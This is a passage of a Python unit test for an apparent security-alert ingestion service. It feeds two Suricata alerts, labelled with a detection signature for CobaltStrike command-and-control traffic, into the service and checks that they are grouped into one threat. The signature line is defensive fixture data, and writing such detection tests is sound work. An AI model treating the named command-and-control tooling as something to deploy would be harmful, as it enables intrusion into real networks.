                        "signature": "ET TROJAN Observed Malicious SSL Cert (CobaltStrike CnC)"}}
    later = {**beacon, "timestamp": "2026-11-20T02:05:14.000+0000", "src_port": 62218}
    run("suricata", json.dumps(beacon).encode(), default_customer=finance)
    run("suricata", json.dumps(later).encode(), default_customer=finance)
    first, second = Threat.objects.order_by("occurred_at")
    assert first.group_id is not None and second.group_id == first.group_id
